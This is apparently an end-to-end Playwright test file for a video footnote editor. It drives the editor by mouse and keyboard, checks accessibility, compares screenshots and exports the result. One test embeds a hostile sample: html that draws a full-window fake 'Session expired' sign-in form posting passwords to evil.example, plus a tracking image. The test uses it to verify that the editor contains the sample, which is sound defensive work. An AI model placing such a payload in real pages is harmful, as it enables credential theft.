import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { type Browser, type Page, chromium } from "playwright";
import { build } from "vite";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { chromiumArgs, chromiumPath } from "../chromium.js";
import { type Served, serveFolder } from "../fresh/serveFolder.js";
import { compareWithReference, showVideoFrame, stablePicture, writeReference } from "../screenshots.js";

/**
 * The editor's interface as a new user meets it: the standalone app (editor/app) built by Vite for production,
 * served, and driven in Chromium. One flow, twice: with the mouse, and with the keyboard alone. Open the sample
 * video, put a footnote on the timeline at 5 s, make it end at 12 s, write its text, add an outlet and place it
 * beside the video, show the footnote there, play and see it appear at its time, undo and redo, export React code
 * and the HTML page; the exported page, opened, shows the same footnote at the same time in the same place.
 * axe-core finds no violation in the editor with that project loaded. Three moments of the mouse flow are
 * compared with reference pictures in ./screenshots (UPDATE_SCREENSHOTS=1 writes them anew).
 */

const here = dirname(fileURLToPath(import.meta.url));
const repo = resolve(here, "../..");
const references = join(here, "screenshots");
const update = process.env.UPDATE_SCREENSHOTS === "1";
/** At most this share of a picture's pixels may differ from its reference (antialiasing, video decoding). */
const TOLERANCE = 0.003;

const TEXT = "Ships left for India from this quay";
const START = 5;
const END = 12;

let root = "";
let app = "";
let served: Served;
let browser: Browser;
const failures = mkdtempSync(join(tmpdir(), "editor-interface-screenshots-"));

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), "popcorn-kit-editor-app-"));
  app = join(root, "app");
  await build({
    configFile: join(repo, "editor/app/vite.config.ts"),
    logLevel: "warn",
    build: { outDir: app, emptyOutDir: true },
  });
  served = await serveFolder(app);
  browser = await chromium.launch({ executablePath: await chromiumPath(), args: chromiumArgs });
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await served?.close();
  if (root) rmSync(root, { recursive: true, force: true });
});

/** A new page on the app, in a fresh profile (no autosaved project), recording console errors and failed requests. */
async function openApp(theme: "light" | "dark"): Promise<{ page: Page; problems: string[] }> {
  const context = await browser.newContext({
    viewport: { width: 1440, height: 900 },
    deviceScaleFactor: 1,
    reducedMotion: "reduce",
    colorScheme: theme,
  });
  const page = await context.newPage();
  const problems: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error" || message.type() === "warning") problems.push(message.text());
  });
  page.on("pageerror", (error) => problems.push(String(error)));
  page.on("response", (response) => {
    if (response.status() >= 400) problems.push(`${response.status()}: ${response.url()}`);
  });
  await page.goto(served.url);
  await page.locator(".pk-editor").waitFor();
  await page.addStyleTag({ content: "* { caret-color: transparent !important; }" });
  return { page, problems };
}

/** Waits until the preview's video has its first frame and its duration. */
async function untilMediaReady(page: Page): Promise<void> {
  await page.waitForFunction(
    () => {
      const video = document.querySelector<HTMLVideoElement>("[data-testid=pke-stage-video] video");
      return video !== null && video.readyState >= 2 && video.duration > 39;
    },
    null,
    { timeout: 20_000 },
  );
}

/** The x coordinate of `time` on the timeline, from the ruler's labelled ticks. */
async function timeX(page: Page, time: number): Promise<number> {
  return page.evaluate((at) => {
    const ticks = [...document.querySelectorAll<HTMLElement>(".pke-timeline-tick")]
      .map((tick) => {
        const label = tick.querySelector(".pke-timeline-tick-label")?.textContent ?? "";
        const match = /^(\d+):(\d\d)$/.exec(label);
        return match ? { x: tick.getBoundingClientRect().left, t: Number(match[1]) * 60 + Number(match[2]) } : null;
      })
      .filter((tick) => tick !== null);
    const first = ticks[0];
    const last = ticks.at(-1);
    if (!first || !last || first.t === last.t) throw new Error("The ruler has fewer than two labelled ticks.");
    return first.x + ((at - first.t) * (last.x - first.x)) / (last.t - first.t);
  }, time);
}

/** A pointer drag from one point to another, in steps, as a hand makes it. */
async function drag(page: Page, from: { x: number; y: number }, to: { x: number; y: number }): Promise<void> {
  await page.mouse.move(from.x, from.y);
  await page.mouse.down();
  await page.mouse.move(from.x + 6, from.y + 2, { steps: 2 });
  await page.mouse.move(to.x, to.y, { steps: 12 });
  await page.mouse.up();
}

/** The centre of the element `selector` matches. */
async function centre(page: Page, selector: string): Promise<{ x: number; y: number }> {
  const box = await page.locator(selector).first().boundingBox();
  if (!box) throw new Error(`${selector} is not on the page.`);
  return { x: box.x + box.width / 2, y: box.y + box.height / 2 };
}

/** The inspector's timecode field `name` ("Start", "End"), in seconds. */
async function fieldSeconds(page: Page, name: string): Promise<number> {
  const value = await page
    .getByRole("complementary", { name: "Inspector" })
    .getByLabel(name, { exact: true })
    .inputValue();
  const match = /^(?:(\d+):)?(\d+):(\d+(?:\.\d+)?)$/.exec(value);
  if (!match) throw new Error(`The ${name} field reads "${value}".`);
  return Number(match[1] ?? 0) * 3600 + Number(match[2]) * 60 + Number(match[3]);
}

/** The text outlet-1 shows in the preview. */
function outletText(page: Page): Promise<string> {
  return page.evaluate(() => document.querySelector('[data-pke-outlet="outlet-1"]')?.textContent ?? "");
}

/**
 * Where the footnote is, against the video: its outlet's box in units of the video's width and height, from the
 * video's top right corner. `scope` is the preview (the editor) or the page (the export).
 */
async function placeOfText(page: Page, text: string): Promise<{ left: number; top: number; width: number }> {
  return page.evaluate((wanted) => {
    const video = [...document.querySelectorAll("video")].find((element) => element.getClientRects().length > 0);
    const holder = [...document.querySelectorAll<HTMLElement>("aside, .pk-footnote")].find((element) =>
      element.textContent?.includes(wanted),
    );
    const outlet = holder?.parentElement;
    if (!video || !outlet) throw new Error(`No video, or no element showing "${wanted}".`);
    const v = video.getBoundingClientRect();
    const o = outlet.getBoundingClientRect();
    return { left: (o.left - v.right) / v.width, top: (o.top - v.top) / v.height, width: o.width / v.width };
  }, text);
}

/**
 * Resolves with the media time of the frame on screen when `text` first showed in outlet-1, once the test plays:
 * a mutation observer sees the text land, and the next video frame callback gives its frame's `mediaTime`, the
 * time cues are dispatched by. That callback runs for the same frame when the preview's own ran first, else for
 * the next one (a frame later: never earlier than the frame that showed the text). The element's `currentTime`,
 * read as the text lands, can still be the previous frame's time.
 */
async function timeTextAppears(page: Page, text: string): Promise<number> {
  return page.evaluate(
    (wanted) =>
      new Promise<number>((resolve, reject) => {
        const video = document.querySelector<HTMLVideoElement>("[data-testid=pke-stage-video] video");
        const outlet = document.querySelector('[data-pke-outlet="outlet-1"]');
        if (!video || !outlet) return reject(new Error("No preview video or no outlet-1."));
        let landed = false;
        const onFrame = (_now: number, frame: VideoFrameCallbackMetadata) => {
          if (landed) resolve(frame.mediaTime);
          else video.requestVideoFrameCallback(onFrame);
        };
        video.requestVideoFrameCallback(onFrame);
        const observer = new MutationObserver(() => {
          if (!outlet.textContent?.includes(wanted)) return;
          observer.disconnect();
          landed = true;
        });
        observer.observe(outlet, { childList: true, subtree: true, characterData: true });
        setTimeout(() => reject(new Error(`"${wanted}" did not show within 15 s.`)), 15_000);
      }),
    text,
  );
}

/**
 * The footnote showed from its start (as the inspector gives it, on the frame grid), never before, and soon after
 * it: the video's time is read when the text lands in the DOM, and `npm test` runs other browser tests beside this
 * one, so a render can come a few frames late (188 ms once on a busy machine). How many frames late cues land is
 * the cue-timing benchmark's to measure.
 */
async function expectShownAtStart(page: Page, at: number): Promise<void> {
  const start = await fieldSeconds(page, "Start");
  expect(Math.abs(start - START)).toBeLessThan(0.05);
  expect(at).toBeGreaterThanOrEqual(start - 0.001);
  expect(at).toBeLessThan(start + 0.5);
}

/** Runs axe-core on the editor; the violations, as "rule: target" lines. */
async function axeViolations(page: Page): Promise<string[]> {
  await page.addScriptTag({ content: await readFile(join(repo, "node_modules/axe-core/axe.min.js"), "utf8") });
  return page.evaluate(async () => {
    const axe = (window as unknown as { axe: { run(context: Element): Promise<any> } }).axe;
    const result = await axe.run(document.querySelector(".pk-editor") as Element);
    return result.violations.flatMap((violation: { id: string; nodes: { target: string[] }[] }) =>
      violation.nodes.map((node) => `${violation.id}: ${node.target.join(" ")}`),
    );
  });
}

/** Pauses the preview at `time` and waits until that frame is presented. */
async function showFrameAt(page: Page, time: number): Promise<void> {
  const shown = await showVideoFrame(page, "[data-testid=pke-stage-video] video", time);
  expect(shown, `the preview's frame at ${time} s`).toBe(true);
}

/** Compares the page with the reference picture `name` (or writes it, with UPDATE_SCREENSHOTS=1). */
async function expectPicture(page: Page, name: string): Promise<void> {
  // Nothing that blinks or counts: autosave has settled, the waveform and thumbnails are drawn.
  await page.waitForFunction(
    () => document.querySelector(".pke-files-autosave")?.getAttribute("data-status") === "saved",
  );
  const actual = await stablePicture(page);
  const file = join(references, `${name}.png`);
  if (update) {
    mkdirSync(references, { recursive: true });
    writeReference(actual, file);
    return;
  }
  expect(compareWithReference(actual, file, join(failures, name), TOLERANCE), name).toBeLessThanOrEqual(TOLERANCE);
}

/** What the focused element is called, as a screen reader would say it (enough of it for these tests). */
function focusedName(page: Page): Promise<string> {
  return page.evaluate(() => {
    const element = document.activeElement as HTMLElement | null;
    if (!element || element === document.body) return "";
    const labelled = element.getAttribute("aria-labelledby");
    const byId = labelled ? document.getElementById(labelled.split(" ")[0] as string)?.textContent : undefined;
    const label = (element as HTMLInputElement).labels?.[0]?.textContent;
    const name = element.getAttribute("aria-label") ?? byId ?? label ?? element.textContent ?? "";
    return `${element.getAttribute("role") ?? element.tagName.toLowerCase()}: ${name.replace(/\s+/g, " ").trim()}`;
  });
}

/** Presses Tab (Shift+Tab with `back`) until the focused element's role and name match `wanted`. */
async function tabTo(page: Page, wanted: RegExp, back = false): Promise<void> {
  const seen: string[] = [];
  for (let press = 0; press < 150; press++) {
    const name = await focusedName(page);
    if (wanted.test(name)) return;
    seen.push(name);
    await page.keyboard.press(back ? "Shift+Tab" : "Tab");
  }
  throw new Error(`Tab never reached ${wanted}; it went through:\n${seen.join("\n")}`);
}

/** Presses ArrowDown in a list until the focused option's name matches `wanted`. */
async function arrowTo(page: Page, wanted: RegExp): Promise<void> {
  const seen: string[] = [];
  for (let press = 0; press < 60; press++) {
    const name = await focusedName(page);
    if (wanted.test(name)) return;
    seen.push(name);
    await page.keyboard.press("ArrowDown");
  }
  throw new Error(`ArrowDown never reached ${wanted}; it went through:\n${seen.join("\n")}`);
}

/** The text of the code the export dialog shows. */
function exportedCode(page: Page): Promise<string> {
  return page.evaluate(() => document.querySelector("[role=dialog] code")?.textContent ?? "");
}

/** Checks the exported page: the footnote shows beside the video from 5 s, not before, where the preview had it. */
async function checkExportedPage(
  html: string,
  inEditor: { left: number; top: number; width: number },
  name: string,
): Promise<void> {
  writeFileSync(join(app, `${name}.html`), html);
  const page = await browser.newPage({ viewport: { width: 1440, height: 900 } });
  const problems: string[] = [];
  page.on("pageerror", (error) => problems.push(String(error)));
  page.on("requestfailed", (request) => problems.push(`failed: ${request.url()}`));
  page.on("response", (response) => {
    if (response.status() >= 400) problems.push(`${response.status()}: ${response.url()}`);
  });
  try {
    await page.goto(`${served.url}${name}.html`);
    await page.waitForFunction(() => (document.querySelector("video")?.readyState ?? 0) >= 2, null, {
      timeout: 20_000,
    });
    const seek = (time: number) =>
      page.evaluate(
        (t) =>
          new Promise<void>((done) => {
            const video = document.querySelector("video") as HTMLVideoElement;
            video.addEventListener("seeked", () => setTimeout(done, 300), { once: true });
            video.currentTime = t;
          }),
        time,
      );
    // What the page shows: its rendered text, which leaves out the scene's JSON in its script.
    const shows = () =>
      // biome-ignore lint/performance/useDomNodeTextContent: textContent would read the script's JSON too
      page.evaluate((text) => document.body.innerText.includes(text), TEXT);
    await seek(START - 0.2);
    await expect(shows()).resolves.toBe(false);
    await seek(START + 0.2);
    await expect.poll(shows, { timeout: 5000 }).toBe(true);
    const exported = await placeOfText(page, TEXT);
    // Beside the video, to its right, and level with it as in the preview.
    expect(exported.left).toBeGreaterThanOrEqual(0);
    expect(Math.abs(exported.left - inEditor.left)).toBeLessThan(0.05);
    expect(Math.abs(exported.top - inEditor.top)).toBeLessThan(0.05);
    await seek(END + 0.2);
    await expect(shows()).resolves.toBe(false);
    expect(problems).toEqual([]);
  } finally {
    await page.close();
  }
}

/**
 * A Popcorn data file no one here would write: a text event whose html draws a full-window "session expired" form
 * over whatever shows it and fetches from another origin.
 */
const PHISHING =
  '<div style="position:fixed;inset:0;z-index:2147483647;background:white">Session expired, sign in again' +
  '<form action="https://evil.example/steal"><input type="password" name="p"><button>Sign in</button></form>' +
  '<img src="https://evil.example/t.png" alt=""></div>';
const HOSTILE_FILE = JSON.stringify({ data: [{ text: { start: 1, end: 20, html: PHISHING } }] });

/**
 * What the file's html could do to the page it is shown in: fields to type a password into, an element laid over
 * the window, anything drawn outside the window's box. The editor's own fields are not the file's: only what holds
 * the file's text is looked at.
 */
async function hostileTraces(page: Page): Promise<{ shown: number; fields: number; fixed: number; covering: number }> {
  return page.evaluate(() => {
    const holders = [...document.querySelectorAll<HTMLElement>("body *")].filter(
      (element) => element.children.length === 0 && element.textContent?.includes("Session expired"),
    );
    const around = holders.map(
      (holder) => holder.closest("[contenteditable], [data-pke-outlet], aside, div") ?? holder,
    );
    const inside = around.flatMap((element) => [element, ...element.querySelectorAll<HTMLElement>("*")]);
    return {
      shown: holders.length,
      fields: document.querySelectorAll('form, input[type="password"]').length,
      fixed: inside.filter((element) => getComputedStyle(element).position === "fixed").length,
      covering: inside.filter((element) => {
        const box = element.getBoundingClientRect();
        return box.width >= window.innerWidth * 0.9 && box.height >= window.innerHeight * 0.9;
      }).length,
    };
  });
}

describe("the editor, as a new user drives it", () => {
  test("with the mouse: a footnote from the palette to the exported page", async () => {
    const { page, problems } = await openApp("light");
    try {
      // Open the sample video.
      await page.getByRole("button", { name: "Media", exact: true }).click();
      await page.getByRole("button", { name: /Lisbon harbour/ }).click();
      await untilMediaReady(page);

      // Drag a footnote from the palette onto the first lane at 5 s.
      const lane = await centre(page, '[data-pke-drop="timeline"] [role="group"]');
      await drag(page, await centre(page, '[data-plugin="footnote"]'), { x: await timeX(page, START), y: lane.y });
      const event = page.locator('[data-pke-drop="timeline"]').getByRole("button", { name: /^Footnote/ });
      await expect(event.count()).resolves.toBe(1);
      expect(Math.abs((await fieldSeconds(page, "Start")) - START)).toBeLessThan(0.1);

      // Resize it: its end edge to 12 s.
      // Held by its end edge: the pointer moves as far as the end must.
      const box = await event.boundingBox();
      const edge = await event.locator('[data-edge="end"]').boundingBox();
      if (!box || !edge) throw new Error("The footnote or its end edge is not on screen.");
      const grab = { x: edge.x + edge.width / 2, y: edge.y + edge.height / 2 };
      await drag(page, grab, { x: (await timeX(page, END)) - (box.x + box.width - grab.x), y: grab.y });
      expect(Math.abs((await fieldSeconds(page, "Start")) - START)).toBeLessThan(0.1);
      expect(Math.abs((await fieldSeconds(page, "End")) - END)).toBeLessThan(0.1);

      // Write its text in the inspector.
      const text = page.getByRole("complementary", { name: "Inspector" }).getByLabel("Text", { exact: true });
      await text.fill(TEXT);
      await text.press("Tab");
      await expect(event.getAttribute("aria-label")).resolves.toContain(TEXT);

      // Layout: add an outlet and drag it into the column beside the video.
      await page.getByRole("button", { name: "Layout", exact: true }).click();
      await page.getByRole("button", { name: "Add outlet" }).click();
      const frame = await centre(page, '[data-pke-outlet-frame="outlet-1"]');
      await page.mouse.move(frame.x, frame.y);
      await page.mouse.down();
      await page.mouse.move(frame.x + 10, frame.y + 4, { steps: 3 });
      const beside = await centre(page, '[data-pke-area="beside"]');
      await page.mouse.move(beside.x, beside.y, { steps: 12 });
      await page.mouse.up();
      await expect(page.locator('[data-pke-outlet-frame="outlet-1"]').getAttribute("data-placement")).resolves.toBe(
        "beside",
      );
      await expectPicture(page, "2-outlet-beside-the-video");
      await page.getByRole("button", { name: "Layout", exact: true }).click();

      // Show the footnote there: pick the outlet on the stage.
      await event.click();
      await page.getByRole("button", { name: "Pick on stage" }).click();
      await page.getByRole("button", { name: "Show the selected events in outlet outlet-1" }).click();

      // Play from 4 s: the footnote shows in its outlet at 5 s.
      await page.evaluate(() => {
        const video = document.querySelector<HTMLVideoElement>("[data-testid=pke-stage-video] video");
        if (video) video.currentTime = 4;
      });
      await expect.poll(() => outletText(page)).toBe("");
      const appeared = timeTextAppears(page, TEXT);
      await page.locator(".pke-transport-play").click();
      const at = await appeared;
      await page.locator(".pke-transport-play").click();
      await expectShownAtStart(page, at);
      const inEditor = await placeOfText(page, TEXT);
      await showFrameAt(page, 6);
      await expectPicture(page, "1-footnote-beside-the-video");

      // Undo takes the footnote out of the outlet, redo puts it back.
      await page.keyboard.press("Control+z");
      await expect.poll(() => outletText(page)).not.toContain(TEXT);
      await page.keyboard.press("Control+Shift+z");
      await expect.poll(() => outletText(page)).toContain(TEXT);

      expect(await axeViolations(page)).toEqual([]);

      // Export: React code, then the HTML page.
      await page.getByRole("button", { name: "Export", exact: true }).click();
      await page.getByRole("tab", { name: "React" }).click();
      const code = page.getByRole("dialog").locator("code");
      await expect(code.textContent()).resolves.toContain(`text="${TEXT}"`);
      await expect(code.textContent()).resolves.toContain('target="outlet-1"');
      await expectPicture(page, "3-export-react");
      await page.getByRole("tab", { name: "HTML page" }).click();
      await expect.poll(async () => (await code.textContent()) ?? "").toContain("<!doctype html>");
      await checkExportedPage((await code.textContent()) ?? "", inEditor, "exported-mouse");
      expect(problems).toEqual([]);
    } finally {
      await page.context().close();
    }
  }, 120_000);
  test("with the keyboard alone, in the dark theme: the same footnote, the same exported page", async () => {
    const { page, problems } = await openApp("dark");
    try {
      // Open the sample video.
      await tabTo(page, /^button: Media$/);
      await page.keyboard.press("Enter");
      await tabTo(page, /^button: .*Lisbon harbour/);
      await page.keyboard.press("Enter");
      await untilMediaReady(page);

      // The playhead to 5 s (Shift+Right: a second), then a footnote from the palette, added there.
      await tabTo(page, /^slider: Playhead$/);
      for (let second = 0; second < START; second++) await page.keyboard.press("Shift+ArrowRight");
      // The palette is one stop: a list whose plugins are reached by the arrows (Space there plays and pauses).
      await tabTo(page, /^option: /);
      await arrowTo(page, /^option: Footnote/);
      await page.keyboard.press("Enter");
      const event = page.locator('[data-pke-drop="timeline"]').getByRole("button", { name: /^Footnote/ });
      await expect(event.count()).resolves.toBe(1);
      expect(Math.abs((await fieldSeconds(page, "Start")) - START)).toBeLessThan(0.05);

      // Its end: typed as a timecode.
      await tabTo(page, /^input: End/);
      await page.keyboard.press("Control+a");
      await page.keyboard.type("00:12");
      await page.keyboard.press("Enter");
      expect(Math.abs((await fieldSeconds(page, "End")) - END)).toBeLessThan(0.05);

      // Its text.
      await tabTo(page, /^(input|textarea): Text/);
      await page.keyboard.press("Control+a");
      await page.keyboard.type(TEXT);
      await page.keyboard.press("Tab");
      await expect.poll(() => event.getAttribute("aria-label")).toContain(TEXT);

      // An outlet, placed beside the video with the placement control.
      await tabTo(page, /^button: Layout$/);
      await page.keyboard.press("Enter");
      await tabTo(page, /^button: Add outlet$/);
      await page.keyboard.press("Enter");
      await tabTo(page, /^radio: Over$/);
      await page.keyboard.press("ArrowRight");
      await expect
        .poll(() => page.locator('[data-pke-outlet-frame="outlet-1"]').getAttribute("data-placement"))
        .toBe("beside");
      await tabTo(page, /^button: Layout$/, true);
      await page.keyboard.press("Enter");

      // The footnote, selected from the timeline, shows in that outlet.
      await tabTo(page, /^button: Footnote "Ships/);
      await page.keyboard.press("Enter");
      await tabTo(page, /^select: Target/);
      await page.keyboard.press("ArrowDown");
      await expect.poll(() => event.getAttribute("aria-label")).toContain(TEXT);

      // Play from 4 s (the playhead a second back) with Space: the footnote shows at 5 s.
      await tabTo(page, /^slider: Playhead$/);
      await page.keyboard.press("Shift+ArrowLeft");
      await expect.poll(() => outletText(page)).toBe("");
      const appeared = timeTextAppears(page, TEXT);
      await page.keyboard.press("Space");
      const at = await appeared;
      await page.keyboard.press("Space");
      await expectShownAtStart(page, at);
      const inEditor = await placeOfText(page, TEXT);

      // Undo and redo.
      await page.keyboard.press("Control+z");
      await expect.poll(() => outletText(page)).not.toContain(TEXT);
      await page.keyboard.press("Control+Shift+z");
      await expect.poll(() => outletText(page)).toContain(TEXT);

      expect(await axeViolations(page)).toEqual([]);

      // Export: the tabs by arrow keys.
      await tabTo(page, /^button: Export$/);
      await page.keyboard.press("Enter");
      await tabTo(page, /^tab: /);
      for (let press = 0; press < 10 && !/^tab: React/.test(await focusedName(page)); press++) {
        await page.keyboard.press("ArrowRight");
      }
      await expect.poll(() => exportedCode(page)).toContain(`text="${TEXT}"`);
      expect(await exportedCode(page)).toContain('target="outlet-1"');
      for (let press = 0; press < 10 && !/^tab: HTML page/.test(await focusedName(page)); press++) {
        await page.keyboard.press("ArrowLeft");
      }
      await expect.poll(() => exportedCode(page)).toContain("<!doctype html>");
      await checkExportedPage(await exportedCode(page), inEditor, "exported-keyboard");
      await page.keyboard.press("Escape");
      expect(problems).toEqual([]);
    } finally {
      await page.context().close();
    }
  }, 120_000);

  test("a hostile data file imported, inspected, recovered and exported: its html keeps to its box, nothing is requested elsewhere", async () => {
    const { page, problems } = await openApp("light");
    const own = new URL(served.url).origin;
    const elsewhere: string[] = [];
    const watch = (target: Page) =>
      target.on("request", (request) => {
        const url = request.url();
        if (/^https?:/.test(url) && new URL(url).origin !== own) elsewhere.push(url);
      });
    watch(page);
    try {
      await page.getByRole("button", { name: "Media", exact: true }).click();
      await page.getByRole("button", { name: /Lisbon harbour/ }).click();
      await untilMediaReady(page);

      // Imported as a person imports a file: the dialog's file field.
      await page.getByRole("button", { name: "Import", exact: true }).click();
      await page
        .getByLabel("File to import")
        .setInputFiles({ name: "hostile.json", mimeType: "application/json", buffer: Buffer.from(HOSTILE_FILE) });
      await page.getByRole("button", { name: "Done", exact: true }).click();

      // Inspected: the event selected, its html in the inspector's rich-text box, the stage showing it at 5 s.
      const inspect = async () => {
        await page.locator('[data-pke-drop="timeline"]').getByRole("button", { name: /^Text/ }).click();
        const box = page.getByRole("complementary", { name: "Inspector" }).getByRole("textbox", { name: /^HTML/i });
        await expect.poll(async () => (await box.textContent()) ?? "").toContain("Session expired");
        await showFrameAt(page, 5);
        await expect.poll(async () => (await hostileTraces(page)).shown).toBeGreaterThanOrEqual(2);
        expect(await hostileTraces(page)).toMatchObject({ fields: 0, fixed: 0, covering: 0 });
      };
      await inspect();

      // Recovered: autosave has it; a reload offers it back.
      await page.waitForFunction(
        () => document.querySelector(".pke-files-autosave")?.getAttribute("data-status") === "saved",
      );
      await page.reload();
      await page.getByRole("region", { name: "Recover a project" }).getByRole("button", { name: "Recover" }).click();
      await untilMediaReady(page);
      await inspect();

      // Exported: the React code loads the file's html as a data track; the HTML page shows it inside its box.
      await page.getByRole("button", { name: "Export", exact: true }).click();
      await page.getByRole("tab", { name: "React" }).click();
      const code = page.getByRole("dialog").locator("code");
      await expect.poll(async () => (await code.textContent()) ?? "").toContain("<TrackEventViews");
      await page.getByRole("tab", { name: "HTML page" }).click();
      await expect.poll(async () => (await code.textContent()) ?? "").toContain("<!doctype html>");
      writeFileSync(join(app, "exported-hostile.html"), (await code.textContent()) ?? "");
      const exported = await browser.newPage({ viewport: { width: 1440, height: 900 } });
      watch(exported);
      try {
        await exported.goto(`${served.url}exported-hostile.html`);
        await exported.waitForFunction(() => (document.querySelector("video")?.readyState ?? 0) >= 2, null, {
          timeout: 20_000,
        });
        await exported.evaluate(
          () =>
            new Promise<void>((done) => {
              const video = document.querySelector("video") as HTMLVideoElement;
              video.addEventListener("seeked", () => done(), { once: true });
              video.currentTime = 5;
            }),
        );
        await expect.poll(async () => (await hostileTraces(exported)).shown).toBe(1);
        expect(await hostileTraces(exported)).toMatchObject({ fields: 0, fixed: 0, covering: 0 });
        await exported.waitForLoadState("networkidle");
      } finally {
        await exported.close();
      }
      expect(elsewhere).toEqual([]);
      expect(problems).toEqual([]);
    } finally {
      await page.context().close();
    }
  }, 120_000);

  test("keys keep working wherever a click leaves focus: on the video, on an empty part of the timeline, on Undo as it disables itself", async () => {
    const { page, problems } = await openApp("light");
    try {
      await page.getByRole("button", { name: "Media", exact: true }).click();
      await page.getByRole("button", { name: /Lisbon harbour/ }).click();
      await untilMediaReady(page);
      // A footnote from the palette, added at the playhead.
      await page.locator('[data-plugin="footnote"]').click();
      const footnotes = () =>
        page
          .locator('[data-pke-drop="timeline"]')
          .getByRole("button", { name: /^Footnote/ })
          .count();
      await expect.poll(footnotes).toBe(1);

      // A click on the video, then Ctrl+Z: undone.
      await page.locator("[data-testid=pke-stage-video] video").click();
      await page.keyboard.press("Control+z");
      await expect.poll(footnotes).toBe(0);

      // A click on an empty part of the timeline, then Ctrl+Shift+Z: redone.
      const lanes = await page.locator('[data-pke-drop="timeline"]').boundingBox();
      if (!lanes) throw new Error("The timeline is not on screen.");
      await page.mouse.click(lanes.x + lanes.width - 8, lanes.y + lanes.height - 8);
      await page.keyboard.press("Control+Shift+z");
      await expect.poll(footnotes).toBe(1);

      // Undo clicked until it disables itself (the media's opening was an edit too): focus falls out of the
      // disabled button, and Ctrl+Y still redoes.
      const undo = page.getByRole("button", { name: /^Undo/ });
      let undone = 0;
      while (!(await undo.isDisabled()) && undone < 10) {
        await undo.click();
        undone++;
      }
      await expect(undo.isDisabled()).resolves.toBe(true);
      // Ctrl+Y with focus fallen to the page: the first step is redone, Undo is back.
      await page.keyboard.press("Control+y");
      await expect.poll(() => undo.isDisabled()).toBe(false);
      expect(undone).toBeGreaterThan(0);
      expect(problems).toEqual([]);
    } finally {
      await page.context().close();
    }
  }, 120_000);
});
